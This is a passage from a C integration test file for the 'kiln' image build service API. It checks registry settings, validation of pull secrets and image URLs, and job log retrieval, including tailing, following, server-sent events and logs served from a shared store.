    is_int(r.status, 200, "GET /registry (none)");
    ok(json_is_false(json_object_get(o, "configured")), "configured: false");
    is_str(jstr(o, "message"), "image registry not found", "image registry not found");
    ok(json_array_size(json_object_get(o, "settings")) > 2, "lists the settings");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/registry", NULL);
    o = json_of(&r);
    ok(json_is_true(json_object_get(o, "configured")), "configured: true on the other server");
    is_str(jstr(o, "repoPrefix"), "127.0.0.1:5999/kiln", "repoPrefix");
    ok(json_is_null(json_object_get(o, "pushRepository")), "pushRepository null");
    json_decref(o);
    resp_release(&r);

    r = request_on(
        port2, "PUT", "/api/v1/specs/noreg",
        &(struct reqopts){.body =
                              "{\"baseImage\": \"busybox\", \"packages\": {\"apt\": [\"curl\"]}}"});
    o = json_of(&r);
    is_int(r.status, 201, "no registry: the spec is saved");
    ok(json_is_false(json_object_get(o, "queued")), "queued: false");
    is_str(jstr(o, "message"), "image registry not found", "message says why");
    ok(json_is_null(json_object_get(o, "job")), "no job");
    json_decref(o);
    resp_release(&r);

    r = request_on(port2, "POST", "/api/v1/specs",
                   &(struct reqopts){.body = "{\"name\": \"noreg2\", \"baseImage\": \"busybox\"}"});
    o = json_of(&r);
    is_int(r.status, 201, "no registry: POST saves");
    ok(json_is_false(json_object_get(o, "queued")), "queued: false");
    ok(json_is_null(json_object_get(o, "status")), "status null (no job)");
    json_decref(o);
    resp_release(&r);

    /* without workers a cancel goes to the store only */
    r = request("POST", "/api/v1/specs/demo/rebuild", NULL);
    o = json_of(&r);
    _cleanup_free_ char *cancel =
        kiln_xasprintf("/api/v1/jobs/%lld/cancel", (long long)jint(o, "id"));
    json_decref(o);
    resp_release(&r);
    r = request_on(port2, "POST", cancel, NULL);
    o = json_of(&r);
    is_int(r.status, 202, "cancel on a server without workers: 202");
    is_str(jstr(o, "phase"), "Cancelled", "Cancelled in the store");
    json_decref(o);
    resp_release(&r);

    r = request_on(port2, "POST", "/api/v1/specs/noreg/rebuild", NULL);
    o = json_of(&r);
    is_int(r.status, 409, "no registry: rebuild 409");
    is_str(err_code(o), "registry_not_found", "code registry_not_found");
    json_decref(o);
    resp_release(&r);
}

static void test_secrets_images(void)
{
    const char *body = "{\"name\": \"regcred\", \"dockerconfigjson\": \"{\\\"auths\\\": "
                       "{\\\"registry.example\\\": {\\\"auth\\\": \\\"" SECRET_AUTH "\\\"}}}\"}";
    struct resp r = with_body("POST", "/api/v1/secrets", body);
    json_t *o = json_of(&r);
    is_int(r.status, 201, "POST /secrets: 201");
    is_str(jstr(o, "name"), "regcred", "name");
    ok(jstr(o, "createdAt") != NULL, "createdAt");
    is_int(json_object_size(o), 2, "name and createdAt only");
    json_decref(o);
    resp_release(&r);

    r = with_body("POST", "/api/v1/secrets", body);
    is_int(r.status, 200, "replacing it: 200");
    resp_release(&r);

    r = with_body("POST", "/api/v1/secrets",
                  "{\"name\": \"objform\", \"dockerconfigjson\": {\"auths\": {\"r.example\": "
                  "{\"username\": \"robot\", \"password\": \"" SECRET_PASS "\"}}}}");
    is_int(r.status, 201, "the value may be an object");
    resp_release(&r);

    r = with_body("POST", "/api/v1/secrets",
                  "{\"name\": \"bad\", \"dockerconfigjson\": \"{\\\"password\\\": \\\"" SECRET_PASS
                  "\\\"}\"}");
    o = json_of(&r);
    is_int(r.status, 422, "a value without auths: 422");
    ok(has_field(o, "dockerconfigjson", 0), "field dockerconfigjson");
    json_decref(o);
    resp_release(&r);

    r = with_body("POST", "/api/v1/secrets",
                  "{\"name\": \"bad2\", \"dockerconfigjson\": \"" SECRET_PASS " not json\"}");
    is_int(r.status, 422, "a value that is not JSON: 422");
    resp_release(&r);

    r = with_body("POST", "/api/v1/secrets",
                  "{\"name\": \"Bad Name\", \"dockerconfigjson\": \"{\\\"auths\\\": {}}\"}");
    o = json_of(&r);
    is_int(r.status, 422, "an invalid secret name: 422");
    ok(has_field(o, "name", 0), "field name");
    json_decref(o);
    resp_release(&r);

    r = request("GET", "/api/v1/secrets", NULL);
    o = json_of(&r);
    is_int(r.status, 200, "GET /secrets");
    is_int(jint(o, "total"), 2, "two secrets");
    is_str(jstr(json_array_get(json_object_get(o, "items"), 1), "name"), "regcred", "by name");
    json_decref(o);
    resp_release(&r);

    /* a spec may use it now */
    r = with_body("PUT", "/api/v1/specs/private",
                  "{\"baseImage\": \"registry.example/team/base:1\", \"pullSecret\": \"regcred\"}");
    o = json_of(&r);
    is_int(r.status, 201, "a spec with an existing pull secret");
    is_str(jstr(o, "spec.pullSecret"), "regcred", "pullSecret kept");
    json_decref(o);
    resp_release(&r);

    r = request("DELETE", "/api/v1/secrets/objform", NULL);
    is_int(r.status, 204, "DELETE /secrets/objform: 204");
    resp_release(&r);
    r = request("DELETE", "/api/v1/secrets/objform", NULL);
    is_int(r.status, 404, "again: 404");
    resp_release(&r);
    r = request("GET", "/api/v1/secrets/regcred", NULL);
    is_int(r.status, 405, "GET of one secret: 405 (values are never returned)");
    resp_release(&r);

    /* images */
    r = with_body("POST", "/api/v1/images", "{\"url\": \"127.0.0.1:5000/kiln/base:bookworm\"}");
    o = json_of(&r);
    is_int(r.status, 201, "POST /images: 201");
    is_str(jstr(o, "source"), "admin", "source admin");
    json_decref(o);
    resp_release(&r);
    r = with_body("POST", "/api/v1/images", "{\"url\": \"127.0.0.1:5000/kiln/base:bookworm\"}");
    is_int(r.status, 200, "again: 200");
    resp_release(&r);
    r = with_body("POST", "/api/v1/images", "{\"url\": \"Not An Image!\"}");
    o = json_of(&r);
    is_int(r.status, 422, "an invalid URL: 422");
    ok(has_field(o, "url", 0), "field url");
    json_decref(o);
    resp_release(&r);
    r = with_body("POST", "/api/v1/images", "{}");
    is_int(r.status, 422, "no URL: 422");
    resp_release(&r);
}

struct fetch {
    pthread_t t;
    char *path;
    const char *header;
    struct resp r;
    int64_t done_at;
};

static void *fetch_main(void *arg)
{
    struct fetch *f = arg;
    f->r = request("GET", f->path, &(struct reqopts){.header = f->header, .timeout_s = 30});
    f->done_at = mono_ms();
    return NULL;
}

static void fetch_start(struct fetch *f, const char *path, const char *header)
{
    memset(f, 0, sizeof(*f));
    f->path = kiln_xstrdup(path);
    f->header = header;
    pthread_create(&f->t, NULL, fetch_main, f);
}

static void fetch_join(struct fetch *f)
{
    pthread_join(f->t, NULL);
    free(f->path);
}

static int count_str(const char *hay, const char *needle)
{
    int n = 0;
    for (const char *p = hay; (p = strstr(p, needle)); p += strlen(needle))
        n++;
    return n;
}

/*
 * GET `logp`?download=1 of job `id` (of spec `spec`): an attachment named
 * SPEC-REVISION.log holding `want`.
 */
static void download_is(const char *logp, int64_t id, const char *spec, const char *want,
                        const char *what)
{
    _cleanup_free_ char *dl = kiln_xasprintf("%s?download=1", logp);
    struct resp r = request("GET", dl, NULL);
    _cleanup_free_ char *cd = header_of(&r, "Content-Disposition");
    struct kiln_store_job j = {0};
    kiln_store_job_get(st, id, &j, NULL);
    _cleanup_free_ char *want_cd =
        kiln_xasprintf("attachment; filename=\"%s-%s.log\"", spec, j.revision);
    kiln_store_job_release(&j);
    is_str(cd, want_cd, "%s: Content-Disposition", what);
    is_str(r.body.buf, want, "%s: the whole log", what);
    resp_release(&r);
}

static void test_logs(void)
{
    int64_t id = put_spec("logs", "curl");
    ok(id > 0, "a job for the log tests");
    is_int(claim_job(id), id, "claimed as a worker would");

    _cleanup_free_ char *base = kiln_xasprintf("/api/v1/jobs/%lld", (long long)id);
    _cleanup_free_ char *logp = kiln_xasprintf("%s/log", base);
    struct resp r = request("GET", logp, NULL);
    is_int(r.status, 200, "the log before it exists: 200");
    is_int(r.body.len, 0, "empty");
    resp_release(&r);

    struct kiln_buf text = KILN_BUF_INIT;
    for (int i = 1; i <= 10; i++)
        kiln_buf_addf(&text, "2026-11-25T10:00:%02d.000Z line %d\n", i, i);
    append_log(id, text.buf);

    r = request("GET", logp, NULL);
    is_int(r.status, 200, "GET log");
    is_str(r.body.buf, text.buf, "the whole log");
    _cleanup_free_ char *ct = header_of(&r, "Content-Type");
    is_str(ct, "text/plain; charset=utf-8", "text/plain");
    resp_release(&r);

    _cleanup_free_ char *tail = kiln_xasprintf("%s?tail=3", logp);
    r = request("GET", tail, NULL);
    is_str(r.body.buf,
           "2026-11-25T10:00:08.000Z line 8\n2026-11-25T10:00:09.000Z line 9\n"
           "2026-11-25T10:00:10.000Z line 10\n",
           "?tail=3: the last 3 lines");
    resp_release(&r);
    _cleanup_free_ char *tail0 = kiln_xasprintf("%s?tail=0", logp);
    r = request("GET", tail0, NULL);
    is_int(r.body.len, 0, "?tail=0: nothing");
    resp_release(&r);
    _cleanup_free_ char *tail99 = kiln_xasprintf("%s?tail=99", logp);
    r = request("GET", tail99, NULL);
    is_str(r.body.buf, text.buf, "?tail=99: all of it");
    resp_release(&r);
    _cleanup_free_ char *tailbad = kiln_xasprintf("%s?tail=x", logp);
    r = request("GET", tailbad, NULL);
    is_int(r.status, 400, "?tail=x: 400");
    resp_release(&r);

    download_is(logp, id, "logs", text.buf, "?download=1");

    /* follow and SSE while the job runs; they end when it finishes through the store */
    _cleanup_free_ char *follow = kiln_xasprintf("%s?follow=1&tail=2", logp);
    _cleanup_free_ char *events = kiln_xasprintf("%s/events", base);
    struct fetch ff, fe, fe2;
    fetch_start(&ff, follow, NULL);
    fetch_start(&fe, events, NULL);
    _cleanup_free_ char *from = kiln_xasprintf("%s/events?from=%zu", base, text.len);
    fetch_start(&fe2, from, NULL);

    sleep_ms(400);
    /* other requests are served while the streams wait */
    int64_t t0 = mono_ms();
    for (int i = 0; i < 20; i++) {
        r = request("GET", "/api/v1/specs/demo", NULL);
        if (r.status != 200)
            printf("# status %ld\n", r.status);
        resp_release(&r);
    }
    int64_t spent = mono_ms() - t0;
    ok(spent < 2000, "20 requests while 3 streams are open: %lld ms", (long long)spent);

    static const char *const more[] = {"2026-11-25T10:00:11.000Z | step output\n",
                                       "2026-11-25T10:00:12.000Z partial",
                                       " line done\n2026-11-25T10:00:13.000Z last line\n"};
    size_t end = text.len;
    for (size_t i = 0; i < KILN_ARRAY_SIZE(more); i++) {
        append_log(id, more[i]);
        end += strlen(more[i]);
        sleep_ms(300);
    }
    is_int(kiln_store_job_finish(st, id, KILN_JOB_SUCCEEDED, "sha256:abc",
                                 "127.0.0.1:5999/kiln/logs:12345678", NULL, NULL),
           0, "the job finishes (store)");
    int64_t finished = mono_ms();
    fetch_join(&ff);
    fetch_join(&fe);
    fetch_join(&fe2);

    is_int(ff.r.status, 200, "follow: 200");
    ok(ff.r.rc == CURLE_OK, "follow ended cleanly (%s)", curl_easy_strerror(ff.r.rc));
    ok(ff.done_at - finished < 3000, "follow ended %lld ms after the job finished",
       (long long)(ff.done_at - finished));
    is_str(ff.r.body.buf,
           "2026-11-25T10:00:09.000Z line 9\n2026-11-25T10:00:10.000Z line 10\n"
           "2026-11-25T10:00:11.000Z | step output\n"
           "2026-11-25T10:00:12.000Z partial line done\n"
           "2026-11-25T10:00:13.000Z last line\n",
           "follow: tail=2, then every line written after, then the end");
    _cleanup_free_ char *te = header_of(&ff.r, "Transfer-Encoding");
    is_str(te, "chunked", "follow is chunked");

    is_int(fe.r.status, 200, "events: 200");
    ok(fe.r.rc == CURLE_OK, "events ended cleanly");
    _cleanup_free_ char *ect = header_of(&fe.r, "Content-Type");
    is_str(ect, "text/event-stream", "text/event-stream");
    is_int(count_str(fe.r.body.buf, "event: log\n"), 13, "13 log events");
    ok(strstr(fe.r.body.buf, "data: 2026-11-25T10:00:12.000Z partial line done\n") != NULL,
       "a line written in two parts is one event");
    ok(strstr(fe.r.body.buf, "event: phase\ndata: {\"id\"") != NULL, "phase events with the job");
    ok(strstr(fe.r.body.buf, "\"phase\":\"Running\"") != NULL, "Running seen");
    const char *last_phase = NULL;
    for (const char *p = fe.r.body.buf; (p = strstr(p, "event: phase\n")); p++)
        last_phase = p;
    ok(last_phase && strstr(last_phase, "\"phase\":\"Succeeded\"") &&
           !strstr(last_phase, "event: log"),
       "the last event is the final phase, after every log line");
    _cleanup_free_ char *last_id = kiln_xasprintf("id: %zu\n", end);
    ok(strstr(fe.r.body.buf, last_id) != NULL, "log events carry byte offsets as ids");

    is_int(count_str(fe2.r.body.buf, "event: log\n"), 3, "events?from=BYTES resumes there");
    ok(strstr(fe2.r.body.buf, "line 10") == NULL, "nothing before the offset");

    /* after the end: a follow of a final job returns the log and ends at once */
    t0 = mono_ms();
    r = request("GET", follow, NULL);
    ok(mono_ms() - t0 < 2000 && r.rc == CURLE_OK, "follow of a finished job ends at once");
    ok(strstr(r.body.buf, "last line") != NULL, "with the log");
    resp_release(&r);

    /* an EventSource reconnecting after the end is told to stop */
    _cleanup_free_ char *lei = kiln_xasprintf("Last-Event-ID: %zu", end);
    r = request("GET", events, &(struct reqopts){.header = lei});
    is_int(r.status, 204, "reconnect after the end (Last-Event-ID): 204");
    resp_release(&r);

    resp_release(&ff.r);
    resp_release(&fe.r);
    resp_release(&fe2.r);
    kiln_buf_release(&text);

    /* built images show up */
    r = request("GET", "/api/v1/images", NULL);
    ok(strstr(r.body.buf, "\"url\":\"127.0.0.1:5999/kiln/logs:12345678\",\"source\":\"built\"") !=
           NULL,
       "the built image is listed as built");
    resp_release(&r);

    r = request("GET", "/api/v1/specs/logs", NULL);
    json_t *o = json_of(&r);
    is_str(jstr(o, "status"), "Succeeded", "the spec's status follows its job");
    is_str(jstr(o, "image"), "127.0.0.1:5999/kiln/logs:12345678", "and its image");
    json_decref(o);
    resp_release(&r);
}

/*
 * Another kiln serve on the database ran the job: no log file here, the
 * copy in the store is served (/log, ?tail, ?download, ?follow, /events).
 */
static void test_logs_from_store(void)
{
    int64_t id = put_spec("stored", "curl");
    is_int(claim_job(id), id, "stored: a job, claimed");
    struct kiln_buf text = KILN_BUF_INIT;
    for (int i = 1; i <= 6; i++)
        kiln_buf_addf(&text, "2026-11-25T11:00:%02d.000Z line %d\n", i, i);
    append_log(id, text.buf);
    is_int(kiln_store_job_finish(st, id, KILN_JOB_FAILED, NULL, NULL, "boom", NULL), 0,
           "stored: the job finishes");
    _cleanup_free_ char *file = log_path(id);
    struct kiln_error *e = NULL;
    is_int(kiln_jobs_store_log(st, id, file, "otherhost", &e), 0, "stored: its log is stored %s",
           e ? e->msg : "");
    kiln_error_freep(&e);
    ok(unlink(file) == 0, "stored: the log file is removed (another host built it)");

    _cleanup_free_ char *base = kiln_xasprintf("/api/v1/jobs/%lld", (long long)id);
    _cleanup_free_ char *logp = kiln_xasprintf("%s/log", base);
    struct resp r = request("GET", logp, NULL);
    is_int(r.status, 200, "stored: GET log");
    is_str(r.body.buf, text.buf, "stored: the whole log, from the store");
    _cleanup_free_ char *src = header_of(&r, "X-Kiln-Log-Source");
    is_str(src, "store", "stored: X-Kiln-Log-Source: store");
    _cleanup_free_ char *ct = header_of(&r, "Content-Type");
    is_str(ct, "text/plain; charset=utf-8", "stored: text/plain");
    resp_release(&r);

    _cleanup_free_ char *tail = kiln_xasprintf("%s?tail=2", logp);
    r = request("GET", tail, NULL);
    is_str(r.body.buf, "2026-11-25T11:00:05.000Z line 5\n2026-11-25T11:00:06.000Z line 6\n",
           "stored: ?tail=2");
    resp_release(&r);
    _cleanup_free_ char *tail0 = kiln_xasprintf("%s?tail=0", logp);
    r = request("GET", tail0, NULL);
    is_int(r.body.len, 0, "stored: ?tail=0: nothing");
    resp_release(&r);
    _cleanup_free_ char *tail99 = kiln_xasprintf("%s?tail=99", logp);
    r = request("GET", tail99, NULL);
    is_str(r.body.buf, text.buf, "stored: ?tail=99: all of it");
    resp_release(&r);

    download_is(logp, id, "stored", text.buf, "stored: ?download=1");

    _cleanup_free_ char *follow = kiln_xasprintf("%s?follow=1", logp);
    int64_t t0 = mono_ms();
    r = request("GET", follow, NULL);
    ok(mono_ms() - t0 < 2000 && r.rc == CURLE_OK, "stored: ?follow=1 of a final job ends at once");
    is_str(r.body.buf, text.buf, "stored: ?follow=1: the whole log");
    resp_release(&r);
    _cleanup_free_ char *follow_tail = kiln_xasprintf("%s?follow=1&tail=1", logp);
    r = request("GET", follow_tail, NULL);
    is_str(r.body.buf, "2026-11-25T11:00:06.000Z line 6\n", "stored: ?follow=1&tail=1");
    resp_release(&r);

    _cleanup_free_ char *events = kiln_xasprintf("%s/events", base);
    t0 = mono_ms();
    r = request("GET", events, NULL);
    ok(mono_ms() - t0 < 2000 && r.rc == CURLE_OK, "stored: events of a final job end at once");
    is_int(count_str(r.body.buf, "event: log\n"), 6, "stored: 6 log events");
    ok(strstr(r.body.buf, "data: 2026-11-25T11:00:01.000Z line 1\n") != NULL,
       "stored: from the first line");
    const char *last_phase = NULL;
    for (const char *p = r.body.buf; (p = strstr(p, "event: phase\n")); p++)
        last_phase = p;
    ok(last_phase && strstr(last_phase, "\"phase\":\"Failed\"") &&
           !strstr(last_phase, "event: log") && count_str(r.body.buf, "event: phase\n") == 1,
       "stored: then the final phase, once, at the end");
    resp_release(&r);
    _cleanup_free_ char *from = kiln_xasprintf("%s/events?from=%zu", base, text.len - 32);
    r = request("GET", from, NULL);
    is_int(count_str(r.body.buf, "event: log\n"), 1, "stored: events?from=BYTES resumes there");
    resp_release(&r);
    _cleanup_free_ char *lei = kiln_xasprintf("Last-Event-ID: %zu", text.len);
    r = request("GET", events, &(struct reqopts){.header = lei});
    is_int(r.status, 204, "stored: reconnect after the end: 204");
    resp_release(&r);

    /* Running elsewhere: no log yet; the streams wait, then send the stored log and end. */
    int64_t run = put_spec("stored", "vim");
    is_int(claim_job(run), run, "stored: a job running on another host");
    _cleanup_free_ char *rbase = kiln_xasprintf("/api/v1/jobs/%lld", (long long)run);
    _cleanup_free_ char *rlog = kiln_xasprintf("%s/log", rbase);
    r = request("GET", rlog, NULL);
    is_int(r.status, 200, "stored: its log, not here yet: 200");
    is_int(r.body.len, 0, "stored: empty");
    _cleanup_free_ char *src2 = header_of(&r, "X-Kiln-Log-Source");
    is_str(src2, "none", "stored: X-Kiln-Log-Source: none");
    resp_release(&r);
    _cleanup_free_ char *rfollow = kiln_xasprintf("%s?follow=1", rlog);
    _cleanup_free_ char *revents = kiln_xasprintf("%s/events", rbase);
    struct fetch ff, fe;
    fetch_start(&ff, rfollow, NULL);
    fetch_start(&fe, revents, NULL);
    sleep_ms(400);
    is_int(kiln_store_job_finish(st, run, KILN_JOB_SUCCEEDED, "sha256:abc",
                                 "127.0.0.1:5999/kiln/stored:1", NULL, NULL),
           0, "stored: it finishes");
    sleep_ms(600); /* the worker stores the log just after */
    static const char rtext[] = "2026-11-25T11:01:00.000Z remote line 1\n"
                                "2026-11-25T11:01:01.000Z remote line 2\n";
    is_int(kiln_store_job_log_put(st, run, rtext, strlen(rtext), false, NULL), 0,
           "stored: then its log is stored");
    int64_t stored_at = mono_ms();
    fetch_join(&ff);
    fetch_join(&fe);
    is_str(ff.r.body.buf, rtext, "stored: ?follow=1 waited and sent the stored log");
    ok(ff.r.rc == CURLE_OK && ff.done_at - stored_at < 3000, "stored: and ended (%lld ms after)",
       (long long)(ff.done_at - stored_at));
    is_int(count_str(fe.r.body.buf, "event: log\n"), 2, "stored: events: 2 log events");
    last_phase = NULL;
    for (const char *p = fe.r.body.buf; (p = strstr(p, "event: phase\n")); p++)
        last_phase = p;
    ok(strstr(fe.r.body.buf, "\"phase\":\"Running\"") && last_phase &&
           strstr(last_phase, "\"phase\":\"Succeeded\"") && !strstr(last_phase, "event: log"),
       "stored: events: Running, the log, then Succeeded");
    ok(fe.r.rc == CURLE_OK, "stored: events ended cleanly");
    resp_release(&ff.r);
    resp_release(&fe.r);
    kiln_buf_release(&text);

    /* deleting the spec deletes the stored logs with its jobs */
    r = request("DELETE", "/api/v1/specs/stored", NULL);
    is_int(r.status, 204, "stored: DELETE the spec");
    resp_release(&r);
    char *gone = NULL;
    size_t gone_len = 0;
    ok(kiln_store_job_log_get(st, id, &gone, &gone_len, NULL, NULL) == -KILN_ENOTFOUND &&
           kiln_store_job_log_get(st, run, &gone, &gone_len, NULL, NULL) == -KILN_ENOTFOUND,
       "stored: its stored logs are gone");
}

/* GET `path`: the body (caller frees) and X-Kiln-Log-Source into *ret_source (caller frees). */
static char *get_log(const char *path, char **ret_source)
{
    struct resp r = request("GET", path, NULL);
    if (r.status != 200)
        printf("#   GET %s: %ld\n", path, r.status);
    *ret_source = header_of(&r, "X-Kiln-Log-Source");
    char *body = kiln_buf_detach(&r.body, NULL);
    resp_release(&r);
    return body;
}

/* GET `path` (a job's log): its body is `want` and, when `want_src` is given, so is its source. */
static void log_is(const char *path, const char *want, const char *want_src, const char *what)
{
    char *src = NULL;
    char *body = get_log(path, &src);
    bool good = body && !strcmp(body, want) && (!want_src || (src && !strcmp(src, want_src)));
    ok(good, "%s", what);
    if (!good)
        printf("#   got '%s' from %s\n", body ? body : "(null)", src ? src : "-");
    free(body);
    free(src);
}

/*
 * A job Running on another host: its log comes from the live copy that its
 * worker keeps in the store (plain, ?tail, ?follow, /events); the follower
 * gets what each newer copy adds, a line for bytes it could not get, and
 * then the final copy's end, each byte once.
 */
static void test_logs_live(void)
{
    int64_t id = put_spec("livelog", "curl");
    is_int(claim_job_as(id, "otherhost-7"), id, "live: a job Running on another host");
    _cleanup_free_ char *base = kiln_xasprintf("/api/v1/jobs/%lld", (long long)id);
    _cleanup_free_ char *logp = kiln_xasprintf("%s/log", base);
    _cleanup_free_ char *tail1 = kiln_xasprintf("%s?tail=1", logp);
    _cleanup_free_ char *tail5 = kiln_xasprintf("%s?tail=5", logp);
    log_is(logp, "", "none", "live: nothing stored yet: none");

    is_int(kiln_store_job_log_put_live(st, id, "otherhost-7", "L1\nL2\n", 6, 0, NULL), 1,
           "live: its worker stores a live copy");
    log_is(logp, "L1\nL2\n", "store", "live: GET log: the live copy");
    log_is(tail1, "L2\n", NULL, "live: ?tail=1");

    _cleanup_free_ char *follow = kiln_xasprintf("%s?follow=1", logp);
    _cleanup_free_ char *events = kiln_xasprintf("%s/events", base);
    struct fetch ff, fe, ft;
    fetch_start(&ff, follow, NULL);
    fetch_start(&fe, events, NULL);
    sleep_ms(1500);
    /* the log grew: the next copy's window starts at 3 */
    is_int(kiln_store_job_log_put_live(st, id, "otherhost-7", "L2\nL3\n", 6, 3, NULL), 1,
           "live: a newer copy with a new line");
    sleep_ms(2000);
    /* the log grew by more than a window between two copies */
    is_int(kiln_store_job_log_put_live(st, id, "otherhost-7", "L9\n", 3, 100, NULL), 1,
           "live: a copy from offset 100");
    log_is(logp, "[... 100 bytes not shown ...]\nL9\n", "store",
           "live: GET log: a line for the bytes before the copy, then the copy");
    log_is(tail1, "L9\n", NULL, "live: ?tail=1 of it");
    log_is(tail5, "[... 100 bytes not shown ...]\nL9\n", NULL, "live: ?tail=5 of it");
    _cleanup_free_ char *follow_tail = kiln_xasprintf("%s?follow=1&tail=1", logp);
    fetch_start(&ft, follow_tail, NULL);
    sleep_ms(2000);

    /* the end: the final copy (truncated, its first line kiln's own) replaces the live one */
    is_int(
        kiln_store_job_finish_as(st, id, "otherhost-7", KILN_JOB_FAILED, NULL, NULL, "boom", NULL),
        0, "live: the job finishes");
    static const char fin[] = "[log truncated: the first 100 bytes are only on otherhost in "
                              "/data/logs/1.log]\nL9\nL10\n";
    is_int(kiln_store_job_log_put_final(st, id, fin, strlen(fin), 100, true, NULL), 0,
           "live: then its final copy");
    int64_t stored_at = mono_ms();
    fetch_join(&ff);
    fetch_join(&fe);
    fetch_join(&ft);
    is_str(ff.r.body.buf, "L1\nL2\nL3\n[... 91 bytes not shown ...]\nL9\nL10\n",
           "live: ?follow=1: each new byte once, a line for those it missed, then the final end");
    ok(ff.r.rc == CURLE_OK && ff.done_at - stored_at < 3000,
       "live: ?follow=1 ended %lld ms after the final copy", (long long)(ff.done_at - stored_at));
    _cleanup_free_ char *fsrc = header_of(&ff.r, "X-Kiln-Log-Source");
    is_str(fsrc, "store", "live: ?follow=1: X-Kiln-Log-Source: store");
    is_str(ft.r.body.buf, "L9\nL10\n", "live: ?follow=1&tail=1 from the copy at offset 100");
    is_int(count_str(fe.r.body.buf, "event: log\n"), 6, "live: events: 6 log events");
    ok(strstr(fe.r.body.buf, "id: 9\nevent: log\ndata: L3\n\n") &&
           strstr(fe.r.body.buf, "id: 100\nevent: log\ndata: [... 91 bytes not shown ...]\n\n") &&
           strstr(fe.r.body.buf, "id: 107\nevent: log\ndata: L10\n\n"),
       "live: events: ids are offsets in the whole log, the line for the bytes missed");
    const char *last_phase = NULL;
    for (const char *p = fe.r.body.buf; (p = strstr(p, "event: phase\n")); p++)
        last_phase = p;
    ok(last_phase && strstr(last_phase, "\"phase\":\"Failed\"") &&
           !strstr(last_phase, "event: log") && fe.r.rc == CURLE_OK,
       "live: events end with the final phase");
    if (!ff.r.body.buf ||
        strcmp(ff.r.body.buf, "L1\nL2\nL3\n[... 91 bytes not shown ...]\nL9\nL10\n"))
        printf("#   follow: %s\n#   events: %s\n", ff.r.body.buf, fe.r.body.buf);
    resp_release(&ff.r);
    resp_release(&fe.r);
    resp_release(&ft.r);

    /* finished: the final copy as it is; an EventSource back after the end is told to stop */
    log_is(logp, fin, NULL, "live: GET log of the finished job: the final copy");
    _cleanup_free_ char *lei = kiln_xasprintf("Last-Event-ID: %d", 107);
    struct resp r = request("GET", events, &(struct reqopts){.header = lei});
    is_int(r.status, 204, "live: reconnect after the end at the log's end (107): 204");
    resp_release(&r);
    _cleanup_free_ char *lei2 = kiln_xasprintf("Last-Event-ID: %d", 103);
    r = request("GET", events, &(struct reqopts){.header = lei2});
    ok(r.status == 200 && count_str(r.body.buf, "event: log\n") == 1 &&
           strstr(r.body.buf, "data: L10\n"),
       "live: reconnect before the end: the rest");
    resp_release(&r);
}

/*
 * Which log wins (docs/api.md): the file here only when this host ran the
 * job's latest attempt; else the store's copy when there is one, else the
 * file here (not while the job runs on another host).
 */
static void test_log_source_rule(void)
{
    char host[256] = "";
    gethostname(host, sizeof(host) - 1);
    _cleanup_free_ char *here = kiln_xasprintf("%s-1", host);
    _cleanup_free_ char *here2 = kiln_xasprintf("%s-1/2", host);

    /* ran here: the file, even with a copy in the store */
    int64_t a = put_spec("src-a", "curl");
    is_int(claim_job_as(a, here), a, "rule: a job Running on this host");
    append_log(a, "local a\n");
    kiln_store_job_log_put_live(st, a, here, "store a\n", 8, 0, NULL);
    _cleanup_free_ char *pa = kiln_xasprintf("/api/v1/jobs/%lld/log", (long long)a);
    log_is(pa, "local a\n", "file", "rule: this host ran it: the file");

    /* requeued (its lease expired) and run again on another host: the store, not the old file */
    int64_t b = put_spec("src-b", "curl");
    is_int(claim_job_as(b, here), b, "rule: a job run here first");
    append_log(b, "attempt 1 here\n");
    is_int(kiln_store_recover_worker(st, here, true, NULL), 2, "rule: requeued (with the first)");
    ok(kiln_store_job_request_cancel(st, a, NULL) == KILN_STORE_CANCELLED_NOW,
       "rule: the other one is cancelled");
    is_int(claim_job_as(b, "otherhost-3"), b, "rule: claimed again on another host");
    _cleanup_free_ char *pb = kiln_xasprintf("/api/v1/jobs/%lld/log", (long long)b);
    log_is(pb, "", "none", "rule: Running elsewhere, no copy yet: not the old file");
    kiln_store_job_log_put_live(st, b, "otherhost-3", "attempt 2 there\n", 16, 0, NULL);
    log_is(pb, "attempt 2 there\n", "store", "rule: then its live copy");
    _cleanup_free_ char *fb = kiln_xasprintf("%s?follow=1", pb);
    struct fetch ff;
    fetch_start(&ff, fb, NULL);
    sleep_ms(300);
    kiln_store_job_finish_as(st, b, "otherhost-3", KILN_JOB_FAILED, NULL, NULL, "boom", NULL);
    kiln_store_job_log_put(st, b, "attempt 2 there\nFailed\n", 23, false, NULL);
    fetch_join(&ff);
    is_str(ff.r.body.buf, "attempt 2 there\nFailed\n", "rule: ?follow=1 follows the store's copy");
    resp_release(&ff.r);
    log_is(pb, "attempt 2 there\nFailed\n", "store",
           "rule: finished: the final copy, not the old file");

    /* another host ran it and nothing is stored: the file here, for want of better */
    int64_t c = put_spec("src-c", "curl");
    is_int(claim_job_as(c, "otherhost-4"), c, "rule: a job of another host");
    append_log(c, "leftover\n");
    kiln_store_job_finish(st, c, KILN_JOB_FAILED, NULL, NULL, "x", NULL);
    _cleanup_free_ char *pc = kiln_xasprintf("/api/v1/jobs/%lld/log", (long long)c);
    log_is(pc, "leftover\n", "file", "rule: no stored copy: the file here");

    /* ran here (worker HOST-PID/N) but its file is gone: the store's copy */
    int64_t d = put_spec("src-d", "curl");
    is_int(claim_job_as(d, here2), d, "rule: a job of a worker of this host");
    kiln_store_job_log_put_live(st, d, here2, "stored d\n", 9, 0, NULL);
    _cleanup_free_ char *pd = kiln_xasprintf("/api/v1/jobs/%lld/log", (long long)d);
    log_is(pd, "stored d\n", "store", "rule: no file here: the store's copy");
    kiln_store_job_finish(st, d, KILN_JOB_FAILED, NULL, NULL, "x", NULL);
}

static void test_delete(void)
{
    /* a spec with a Running job, a log, and an old finished job */
    int64_t first = put_spec("gone", "curl");
    claim_job(first);
    kiln_store_job_finish(st, first, KILN_JOB_FAILED, NULL, NULL, "boom", NULL);
    append_log(first, "old\n");
    int64_t running = put_spec("gone", "vim");
    is_int(claim_job(running), running, "a Running job");
    append_log(running, "running\n");

    _cleanup_free_ char *events = kiln_xasprintf("/api/v1/jobs/%lld/events", (long long)running);
    struct fetch fe;
    fetch_start(&fe, events, NULL);
    sleep_ms(300);

    struct resp r = request("DELETE", "/api/v1/specs/gone", NULL);
    is_int(r.status, 204, "DELETE /specs/gone: 204");
    is_int(r.body.len, 0, "no body");
    resp_release(&r);
    r = request("GET", "/api/v1/specs/gone", NULL);
    is_int(r.status, 404, "gone");
    resp_release(&r);
    struct kiln_store_job j = {0};
